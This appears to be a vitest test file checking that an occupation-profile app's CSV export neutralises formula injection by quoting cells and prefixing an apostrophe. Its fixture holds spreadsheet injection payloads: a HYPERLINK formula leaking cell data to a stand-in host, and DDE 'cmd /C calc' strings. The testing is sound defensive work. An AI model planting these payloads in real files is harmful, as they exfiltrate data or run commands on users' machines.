/**
 * Issue 17, item 6: an imported document whose text starts with a formula character (=, +, -, @,
 * tab, carriage return) comes out of every CSV export neutralised: the cell quoted and prefixed
 * with an apostrophe (OWASP "CSV injection"), its text otherwise intact.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, expect, it } from "vitest";
import { ROOT, createReferenceDb } from "@/tests/setup/test-db";

const dir = fs.mkdtempSync(path.join(os.tmpdir(), "atlas-csv-injection-"));
const file = path.join(dir, "csv.db");

/** The seed profile of 243108 with a task title and items that start like formulas. */
const HOSTILE = {
  title: '=HYPERLINK("http://example.invalid/?leak="&A1,"Wspieranie procesu")',
  knowledge: "+cmd|' /C calc'!A0 Aktualną strategię marketingową",
  skill: "-2+3+cmd|' /C calc'!A0 Wykorzystywać źródła danych",
};

let exportOne: typeof import("@/app/api/v1/occupations/[code]/export/route");

beforeAll(async () => {
  const { db } = createReferenceDb(file);
  // Before any app module reads the environment (lib/env parses it once).
  process.env.DATABASE_URL = `file:${file}`;
  let text = fs.readFileSync(path.join(ROOT, "seeds/documents/003_6dbabf946e4f36b9.txt"), "utf8");
  text = text.replace("\nWspieranie procesu tworzenia i wdrażanie strategii kampanii marketingowych w mediach interaktywnych\n", `\n${HOSTILE.title}\n`);
  text = text.replace(
    " • Aktualną strategię marketingową",
    ` • ${HOSTILE.knowledge.replace(" Aktualną strategię marketingową", "")} Aktualną strategię marketingową`,
  );
  text = text.replace(" • Wykorzystywać źródła danych", ` • ${HOSTILE.skill.replace(" Wykorzystywać źródła danych", "")} Wykorzystywać źródła danych`);
  const { importFile } = await import("@/lib/store/import");
  const outcome = await importFile(db, { name: "profil-formuly.txt", bytes: new TextEncoder().encode(text) }, { suggester: { suggest: () => [] } });
  db.close();
  expect(outcome.error).toBeNull();
  exportOne = await import("@/app/api/v1/occupations/[code]/export/route");
});

afterAll(async () => {
  const { db } = await import("@/lib/db");
  await db.$disconnect();
  fs.rmSync(dir, { recursive: true, force: true });
});

it("the imported formulas are exported as text: quoted, apostrophe first, nothing else changed", async () => {
  for (const delimiter of ["comma", "semicolon"] as const) {
    const res = await exportOne.GET(new Request(`http://test/api/v1/occupations/243108/export?format=csv&delimiter=${delimiter}`), {
      params: Promise.resolve({ code: "243108" }),
    });
    expect(res.status).toBe(200);
    const csv = new TextDecoder().decode(await res.arrayBuffer()); // drops the BOM
    const rows = parse(csv, { columns: true, delimiter: delimiter === "comma" ? "," : ";" }) as Record<string, string>[];
    const texts = rows.map((r) => r.text ?? "");
    // The document's words are there, each behind one apostrophe.
    expect(texts).toContain(`'${HOSTILE.title}`);
    expect(texts.some((t) => t.startsWith(`'${HOSTILE.knowledge.slice(0, 20)}`))).toBe(true);
    expect(texts.some((t) => t.startsWith(`'${HOSTILE.skill.slice(0, 20)}`))).toBe(true);
    // No cell of the export, in any column, starts with what a spreadsheet would run.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/u);
    // And in the raw file every such cell is a quoted field.
    expect(csv).toContain(`"'=HYPERLINK(""http://example.invalid/?leak=""&A1,""Wspieranie procesu"")"`);
  }
});
